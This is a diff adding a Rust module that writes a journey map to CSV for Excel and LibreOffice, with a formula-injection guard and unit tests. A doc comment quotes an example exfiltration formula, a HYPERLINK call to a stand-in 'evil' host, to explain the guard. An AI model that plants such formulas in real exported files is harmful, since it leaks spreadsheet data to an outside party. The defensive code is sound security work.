@@ -1,0 +1,257 @@
+//! The map as a spreadsheet: one row per touchpoint, in stage order then card order, with
+//! every field of the card, including the ones this version does not know.
+//!
+//! Written for Excel and LibreOffice as they open a file by double-click: UTF-8 with a
+//! byte order mark (without it Excel reads the file as the local ANSI code page and
+//! garbles Cyrillic and Polish letters), CRLF between records, and fields quoted only
+//! when they hold the delimiter, a quote or a line break (line breaks inside a title stay
+//! inside its cell).
+
+use std::collections::BTreeSet;
+
+use serde_json::Value;
+
+use super::{sentiment_label, stages_with_cards, Delimiter, Labels};
+use crate::model::Map;
+
+/// What Excel and LibreOffice take for the start of a UTF-8 file.
+const BOM: &str = "\u{FEFF}";
+
+pub fn render(map: &Map, labels: &Labels, delimiter: Delimiter) -> Vec<u8> {
+    let stages = stages_with_cards(map);
+    // One column per unknown field found on any exported card, in a stable (sorted) order.
+    let extra_keys: BTreeSet<&str> = stages
+        .iter()
+        .flat_map(|(_, cards)| cards.iter())
+        .flat_map(|t| t.extra.keys().map(String::as_str))
+        .collect();
+
+    let mut out = BOM.as_bytes().to_vec();
+    let mut writer = csv::WriterBuilder::new()
+        .delimiter(delimiter.byte())
+        .terminator(csv::Terminator::CRLF)
+        .quote_style(csv::QuoteStyle::Necessary)
+        .from_writer(&mut out);
+
+    let mut header: Vec<String> = [
+        &labels.col_stage,
+        &labels.col_stage_number,
+        &labels.col_order,
+        &labels.col_title,
+        &labels.col_sentiment,
+        &labels.col_id,
+        &labels.col_stage_id,
+    ]
+    .into_iter()
+    .map(|s| defuse(s))
+    .collect();
+    header.extend(extra_keys.iter().map(|k| defuse(k)));
+    write(&mut writer, &header);
+
+    for (stage_number, (stage, cards)) in stages.iter().enumerate() {
+        for (order, card) in cards.iter().enumerate() {
+            let mut row = vec![
+                defuse(&stage.name),
+                (stage_number + 1).to_string(),
+                (order + 1).to_string(),
+                defuse(&card.title),
+                defuse(sentiment_label(labels, card.sentiment)),
+                defuse(&card.id),
+                defuse(&stage.id),
+            ];
+            row.extend(extra_keys.iter().map(|key| match card.extra.get(*key) {
+                None | Some(Value::Null) => String::new(),
+                Some(Value::String(s)) => defuse(s),
+                // A JSON number is digits, a sign, a dot and an exponent: it cannot be a
+                // formula, and "-5" should stay the number -5 in the spreadsheet.
+                Some(Value::Number(n)) => n.to_string(),
+                Some(other) => defuse(&other.to_string()),
+            }));
+            write(&mut writer, &row);
+        }
+    }
+    writer.flush().expect("writing to memory cannot fail");
+    drop(writer);
+    out
+}
+
+fn write(writer: &mut csv::Writer<&mut Vec<u8>>, record: &[String]) {
+    writer
+        .write_record(record)
+        .expect("writing to memory cannot fail");
+}
+
+/// Guards against CSV (formula) injection. Map files come from colleagues and scripts and
+/// are untrusted; a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a
+/// formula (`=HYPERLINK("http://evil/?"&A1)` leaks data, DDE formulas can run programs),
+/// and a leading tab or carriage return can hide such a start. As OWASP recommends, such
+/// a cell gets a leading apostrophe, which makes the spreadsheet treat it as text; the
+/// apostrophe is visible in the cell, the price of a file that is safe to open.
+fn defuse(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::export::Language;
+    use crate::model::{sample_map, Sentiment, Stage, Touchpoint};
+
+    fn read(bytes: &[u8], delimiter: u8) -> Vec<Vec<String>> {
+        let text = std::str::from_utf8(bytes).unwrap();
+        let text = text.strip_prefix(BOM).expect("starts with a BOM");
+        csv::ReaderBuilder::new()
+            .delimiter(delimiter)
+            .has_headers(false)
+            .from_reader(text.as_bytes())
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+            .collect()
+    }
+
+    #[test]
+    fn sample_map_gives_one_row_per_card_in_stage_then_card_order() {
+        let map = sample_map();
+        let labels = Labels::get(Language::En);
+        let rows = read(&render(&map, labels, Delimiter::Comma), b',');
+        assert_eq!(rows.len(), map.touchpoints.len() + 1);
+        assert_eq!(
+            rows[0],
+            [
+                "Stage",
+                "Stage number",
+                "Order in stage",
+                "Title",
+                "Sentiment",
+                "Touchpoint id",
+                "Stage id"
+            ]
+        );
+        let mut expected = Vec::new();
+        for (n, stage) in map.stages.iter().enumerate() {
+            for (k, i) in map.cards_of(&stage.id).into_iter().enumerate() {
+                let t = &map.touchpoints[i];
+                expected.push(vec![
+                    stage.name.clone(),
+                    (n + 1).to_string(),
+                    (k + 1).to_string(),
+                    t.title.clone(),
+                    sentiment_label(labels, t.sentiment).to_owned(),
+                    t.id.clone(),
+                    stage.id.clone(),
+                ]);
+            }
+        }
+        assert_eq!(rows[1..], expected[..]);
+    }
+
+    #[test]
+    fn bytes_are_bom_crlf_and_quoted_where_needed() {
+        let mut map = Map::new("t");
+        map.stages.push(Stage {
+            id: "s".into(),
+            name: "A; B".into(),
+            extra: Default::default(),
+        });
+        map.touchpoints.push(Touchpoint {
+            id: "t".into(),
+            stage: "s".into(),
+            title: "line one\nsay \"hi\", ok".into(),
+            sentiment: Sentiment::Negative,
+            extra: Default::default(),
+        });
+        let bytes = render(&map, Labels::get(Language::En), Delimiter::Semicolon);
+        let text = String::from_utf8(bytes).unwrap();
+        assert_eq!(
+            text,
+            "\u{FEFF}Stage;Stage number;Order in stage;Title;Sentiment;Touchpoint id;Stage id\r\n\
+             \"A; B\";1;1;\"line one\nsay \"\"hi\"\", ok\";Negative;t;s\r\n"
+        );
+    }
+
+    #[test]
+    fn formula_starts_get_an_apostrophe_and_extras_get_columns() {
+        let mut map = Map::new("t");
+        map.stages.push(Stage {
+            id: "s".into(),
+            name: "=1+1".into(),
+            extra: Default::default(),
+        });
+        let mut extra = crate::model::Extra::new();
+        extra.insert("owner".into(), Value::String("@me".into()));
+        extra.insert("budget".into(), serde_json::json!(-5));
+        extra.insert("tags".into(), serde_json::json!(["a", "b"]));
+        for (id, title, extra) in [("a", "-2", extra), ("b", "\tx", Default::default())] {
+            map.touchpoints.push(Touchpoint {
+                id: id.into(),
+                stage: "s".into(),
+                title: title.into(),
+                sentiment: Sentiment::Positive,
+                extra,
+            });
+        }
+        // A card whose stage is gone is not exported.
+        map.touchpoints.push(Touchpoint {
+            id: "lost".into(),
+            stage: "nowhere".into(),
+            title: "lost".into(),
+            sentiment: Sentiment::Positive,
+            extra: [("ghost".to_owned(), Value::Bool(true))].into(),
+        });
+        let rows = read(
+            &render(&map, Labels::get(Language::Ru), Delimiter::Comma),
+            b',',
+        );
+        assert_eq!(rows.len(), 3);
+        assert_eq!(rows[0][0], "Этап");
+        assert_eq!(rows[0][7..], ["budget", "owner", "tags"]);
+        assert_eq!(
+            rows[1],
+            [
+                "'=1+1",
+                "1",
+                "1",
+                "'-2",
+                "Позитивная",
+                "a",
+                "s",
+                "-5",
+                "'@me",
+                r#"["a","b"]"#
+            ]
+        );
+        assert_eq!(
+            rows[2],
+            [
+                "'=1+1",
+                "1",
+                "2",
+                "'\tx",
+                "Позитивная",
+                "b",
+                "s",
+                "",
+                "",
+                ""
+            ]
+        );
+    }
+
+    #[test]
+    fn an_empty_map_is_a_header_only() {
+        let rows = read(
+            &render(
+                &Map::new(""),
+                Labels::get(Language::Pl),
+                Delimiter::Semicolon,
+            ),
+            b';',
+        );
+        assert_eq!(rows.len(), 1);
+        assert_eq!(rows[0][3], "Tytuł");
+    }
+}
